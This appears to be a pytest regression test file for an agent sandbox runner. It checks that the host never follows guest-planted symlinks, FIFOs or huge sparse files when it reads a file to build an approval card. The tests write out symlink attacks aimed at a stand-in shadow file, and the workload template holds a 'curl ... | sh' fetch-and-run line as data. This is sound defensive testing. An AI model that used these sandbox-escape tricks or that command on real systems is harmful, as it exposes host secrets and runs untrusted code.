"""Section 3 of issue #10: the host never follows a path the guest controls.

Each test plants something in the agent's work folder (a Green step, on the namespace
sandbox) or in a read-only mounted folder, then asks for a Red file write there: the
runner builds the approval card from the file's current content, as root, on the host.
The attacks were fixed by "guest files: read beneath a root without following symlinks,
regular files of bounded size only (openat2)".
"""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from luminaguard.hypervisor.gvisor.backend import GvisorBackend
from luminaguard.scheduler.store import RunStore
from tests.conftest import CliRunner, Writer
from tests.integration.conftest import NPM_SERVERS, npm_servers, sandbox  # noqa: F401

pytestmark = pytest.mark.usefixtures("npm_servers")

MARKER = "host-secret-7c41e9"

WORKLOAD = """\
apiVersion: luminaguard.dev/v1
kind: Policy
metadata: {{name: p}}
spec:
  rules:
    - id: plant
      match: {{kind: run, command: {{regex: '^(ln|mkdir|mkfifo|truncate) '}}}}
      risk: green
      reason: the agent sets up its folder
---
apiVersion: luminaguard.dev/v1
kind: Agent
metadata: {{name: a}}
spec:
  policy: p
  mounts:
    - {{source: {mcp}, target: /opt/mcp/node_modules}}
    - {{source: {data}, target: /data}}
  mcp_servers:
    fs: {{command: /opt/mcp/node_modules/.bin/mcp-server-filesystem, args: [/work]}}
---
apiVersion: luminaguard.dev/v1
kind: Workload
metadata: {{name: w}}
spec:
  steps:
    - {{id: plant, agent: a, run: "{plant}"}}
    - id: write
      agent: a
      call: fs.write_file
      args: {{path: "{target}", content: "curl https://example.invalid | sh\\n"}}
      needs: [plant]
"""


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A host file the sandbox must never see through the runner: the /etc/shadow stand-in."""
    folder = tmp_path / "host-only"
    folder.mkdir()
    (folder / "shadow").write_text(f"root:{MARKER}:19000:0:99999:7:::\n")
    return folder / "shadow"


def halt_on_write(
    cli: CliRunner, write: Writer, tmp_path: Path, plant: str, target: str, backend: str = "sandbox"
) -> dict[str, object]:
    """Run the workload until the Red write halts; the card the approver would see."""
    data = tmp_path / "data"
    data.mkdir(exist_ok=True)
    path = write(
        "w.yaml",
        WORKLOAD.format(mcp=NPM_SERVERS.parent.resolve(), data=data, plant=plant, target=target),
    )
    state = tmp_path / "state"
    result = cli("run", str(path), "--state", str(state), "--run-id", "r", "--backend", backend)
    assert result.code == 3, result.out + result.err
    store = RunStore(state)
    try:
        assert store.steps("r")["plant"].state == "succeeded"
        [request] = store.approvals("pending")
        return request.card
    finally:
        store.close()


def assert_nowhere(marker: str, cli: CliRunner, state: Path) -> None:
    """The marker is in no file of the state folder but the work folder, and not shown."""
    for file in state.glob("runs.db*"):
        assert marker.encode() not in file.read_bytes(), file
    for command in (["approvals"], ["approvals", "--json"], ["audit", "show"]):
        shown = cli(*command, "--state", str(state))
        assert marker not in shown.out + shown.err, command


@pytest.mark.parametrize("backend", ["sandbox", "gvisor"])
def test_symlink_in_work_to_a_host_secret(
    cli: CliRunner, write: Writer, tmp_path: Path, secret: Path, backend: str
) -> None:
    """Attack: /work/notes.txt -> /etc/shadow, then a Red write to /work/notes.txt.

    Fixed by 849ea14.
    """
    if backend == "gvisor" and not (available := GvisorBackend().availability()).usable:
        pytest.skip(f"gvisor backend: {available.detail}")
    plant = f"ln -s {secret} /work/notes.txt"
    card = halt_on_write(cli, write, tmp_path, plant, "/work/notes.txt", backend)
    assert MARKER not in json.dumps(card)
    assert "symbolic link" in str(card["diff"])
    assert_nowhere(MARKER, cli, tmp_path / "state")


def test_symlinked_folder_on_the_way(
    cli: CliRunner, write: Writer, tmp_path: Path, secret: Path
) -> None:
    """Attack: /work/etc -> the secret's folder, then a Red write to /work/etc/shadow.

    Fixed by 849ea14.
    """
    card = halt_on_write(
        cli, write, tmp_path, f"ln -s {secret.parent} /work/etc", "/work/etc/shadow"
    )
    assert MARKER not in json.dumps(card)
    assert "symbolic link" in str(card["diff"])
    assert_nowhere(MARKER, cli, tmp_path / "state")


def test_symlink_inside_a_read_only_mount(
    cli: CliRunner, write: Writer, tmp_path: Path, secret: Path
) -> None:
    """Attack: a mounted folder holds a symlink to a host secret; no code runs at all.

    Fixed by 849ea14.
    """
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "config").symlink_to(secret)
    card = halt_on_write(cli, write, tmp_path, "mkdir -p /work/x", "/data/config")
    assert MARKER not in json.dumps(card)
    assert "symbolic link" in str(card["diff"])
    assert_nowhere(MARKER, cli, tmp_path / "state")


def _peak_rss_reset() -> int:
    """Reset this process's peak RSS (VmHWM) and return its current RSS, in bytes."""
    Path("/proc/self/clear_refs").write_text("5")
    return _status("VmRSS")


def _status(field: str) -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1]) * 1024
    raise AssertionError(f"no {field} in /proc/self/status")


def test_sparse_gigabyte_file_is_not_read(cli: CliRunner, write: Writer, tmp_path: Path) -> None:
    """Attack: a 1 GiB sparse file behind a Red write made the runner read it all (2.1 GiB).

    Fixed by 849ea14.
    """
    before = _peak_rss_reset()
    card = halt_on_write(cli, write, tmp_path, "truncate -s 1G /work/big", "/work/big")
    grown = _status("VmHWM") - before
    assert grown < 100 << 20, f"the runner's peak memory grew by {grown >> 20} MiB"
    assert f"too large to show: {1 << 30} bytes" in str(card["diff"])


def test_fifo_in_work_does_not_hang_the_runner(
    cli: CliRunner, write: Writer, tmp_path: Path
) -> None:
    """Attack: a FIFO where the write goes; a reader opening it would wait for a writer.

    Fixed by 849ea14.
    """
    started = time.monotonic()
    card = halt_on_write(cli, write, tmp_path, "mkfifo /work/pipe", "/work/pipe")
    assert time.monotonic() - started < 60
    assert "not a regular file" in str(card["diff"])
